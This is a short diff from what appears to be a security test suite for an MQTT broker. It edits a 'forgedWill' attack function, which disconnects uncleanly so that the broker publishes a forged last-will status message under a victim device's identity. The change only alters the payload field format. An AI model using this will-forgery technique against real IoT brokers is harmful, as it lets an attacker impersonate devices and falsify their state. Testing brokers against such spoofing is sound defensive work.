@@ -79,7 +79,7 @@ async function takeover({ url, attacker }: AttackContext): Promise<AttackOutcome
 
 /** Dies without DISCONNECT, so that the broker publishes its will: under another device's name. */
 async function forgedWill({ url, attacker, victim, log }: AttackContext): Promise<AttackOutcome> {
-  const payload = JSON.stringify({ ip: victim.ip, status: { power: "on" } });
+  const payload = JSON.stringify({ ip: victim.ip, status: { power_on: true } });
   try {
     const client = await connectMqtt(url, {
       clientId: attacker.id,
